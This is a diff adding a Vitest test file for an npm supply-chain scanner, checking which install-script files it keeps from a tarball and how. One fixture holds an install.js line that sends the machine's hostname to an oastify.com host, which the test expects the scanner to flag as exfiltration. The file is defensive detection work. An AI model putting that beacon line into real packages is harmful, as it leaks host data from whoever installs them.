@@ -1,0 +1,123 @@
+/**
+ * The files an install script runs, kept while the tarball streams (src/sources/npm/install-code.ts):
+ * what is kept, in which order it may arrive, what is missing or unread, and the bounds.
+ */
+import { describe, expect, test } from 'vitest';
+import { readTarball } from '../../src/sources/npm/tarball.js';
+import { readInstallJavaScript } from '../../src/checks/lib/js-code.js';
+import { loadTarball } from './fixtures.js';
+import { makeTgz, type TarEntry } from './make-tgz.js';
+
+async function installCode(entries: TarEntry[] | Buffer, commands: string[]) {
+  const result = await readTarball(Buffer.isBuffer(entries) ? entries : makeTgz(entries), {}, commands);
+  if (result.status !== 'ok') throw new Error(`expected ok, got: ${result.reason}`);
+  return result.facts.installCode;
+}
+
+const manifest = (scripts: Record<string, string> = {}) => JSON.stringify({ name: 'p', version: '1.0.0', scripts });
+
+describe('installCode', () => {
+  test("esbuild's real tarball: its postinstall's install.js is kept whole, and reads clean", async () => {
+    const code = await installCode(loadTarball('esbuild', '0.28.2'), ['node install.js']);
+    expect(code?.files.map((f) => [f.path, f.language, f.size, f.truncated])).toEqual([['install.js', 'javascript', 11773, false]]);
+    expect(code?.missing).toEqual([]);
+    expect(readInstallJavaScript(code!.files[0]!.text)).toEqual([]);
+  });
+
+  test("the tarball's own package.json names the commands too; without any, nothing is kept", async () => {
+    // esbuild's archive holds install.js before package.json: known only from the archive, it is named unread.
+    expect(await installCode(loadTarball('esbuild', '0.28.2'), [])).toEqual({ files: [], missing: [], unread: ['install.js'] });
+    expect(await installCode([{ path: 'package/package.json', body: manifest() }, { path: 'package/index.js', body: 'x' }], [])).toBeUndefined();
+  });
+
+  test("commands only in the tarball's package.json: files after it are kept, a file before it is unread", async () => {
+    const code = await installCode(
+      [
+        { path: 'package/early.js', body: 'early()' },
+        { path: 'package/package.json', body: manifest({ preinstall: 'node early.js', postinstall: 'node late.js' }) },
+        { path: 'package/late.js', body: 'late()' },
+      ],
+      [],
+    );
+    expect(code?.files.map((f) => [f.path, f.text])).toEqual([['late.js', 'late()']]);
+    // Nothing was kept before a command was known (a registry manifest without the script is manifest-confusion's finding).
+    expect(code?.unread).toEqual(['early.js']);
+    expect(code?.missing).toEqual([]);
+  });
+
+  test('node resolves extensions and index files; the modules a script loads are followed', async () => {
+    const code = await installCode(
+      [
+        { path: 'package/package.json', body: manifest({ postinstall: 'node scripts/post' }) },
+        { path: 'package/scripts/post/index.js', body: "require('../../lib/a'); import('./b.mjs')" },
+        { path: 'package/scripts/post/b.mjs', body: "import x from '../../lib/c.js'" },
+        { path: 'package/lib/a.js', body: "require('fs'); require('./native.node')" },
+        { path: 'package/lib/c.js', body: 'c' },
+        { path: 'package/lib/unrelated.js', body: 'u' },
+      ],
+      ['node scripts/post'],
+    );
+    expect(code?.files.map((f) => f.path)).toEqual(['scripts/post/index.js', 'lib/a.js', 'scripts/post/b.mjs', 'lib/c.js']);
+    // A loaded module the archive lacks (a native addon built at install) is neither missing nor unread.
+    expect(code?.missing).toEqual([]);
+    expect(code?.unread).toEqual([]);
+  });
+
+  test('a file the command names and the archive lacks is missing; paths outside the package name nothing', async () => {
+    const code = await installCode([{ path: 'package/package.json', body: manifest() }], ['node scripts/gone.js && node ../../../etc/x.js && node /usr/lib/y.js']);
+    expect(code).toEqual({ files: [], missing: ['scripts/gone.js'], unread: [] });
+  });
+
+  test('shell and Python files are kept with their language', async () => {
+    const code = await installCode(
+      [
+        { path: 'package/package.json', body: manifest() },
+        { path: 'package/setup.sh', body: 'echo hi' },
+        { path: 'package/build.py', body: 'print(1)' },
+      ],
+      ['sh ./setup.sh', 'python3 build.py'],
+    );
+    expect(code?.files.map((f) => [f.path, f.language])).toEqual([
+      ['setup.sh', 'shell'],
+      ['build.py', 'python'],
+    ]);
+  });
+
+  test('a later entry for the same path replaces the earlier one, as extraction does', async () => {
+    const code = await installCode(
+      [
+        { path: 'package/package.json', body: manifest() },
+        { path: 'package/install.js', body: 'honest()' },
+        { path: 'package/install.js', body: 'require("https").get("https://x.oastify.com/" + require("os").hostname())' },
+      ],
+      ['node install.js'],
+    );
+    expect(code?.files).toHaveLength(1);
+    expect(readInstallJavaScript(code!.files[0]!.text).map((f) => f.flag)).toContain('exfiltration');
+  });
+
+  test('files under node_modules/ are not the package’s own', async () => {
+    const code = await installCode(
+      [
+        { path: 'package/package.json', body: manifest() },
+        { path: 'package/node_modules/install.js', body: 'bundled' },
+      ],
+      ['node node_modules/install.js'],
+    );
+    expect(code?.files).toEqual([]);
+    expect(code?.missing).toEqual(['node_modules/install.js']);
+  });
+
+  test('a long file is kept to its cap and said to be truncated; many other files do not crowd it out', async () => {
+    const filler: TarEntry[] = Array.from({ length: 40 }, (_, i) => ({ path: `package/lib/f${i}.js`, body: 'x'.repeat(200 * 1024) }));
+    const code = await installCode(
+      [{ path: 'package/package.json', body: manifest() }, ...filler, { path: 'package/install.js', body: 'y'.repeat(2 * 1024 * 1024) }],
+      ['node install.js'],
+    );
+    const file = code?.files[0];
+    expect(file?.path).toBe('install.js');
+    expect(file?.size).toBe(2 * 1024 * 1024);
+    expect(file?.truncated).toBe(true);
+    expect(file?.text.length).toBe(256 * 1024);
+  });
+});
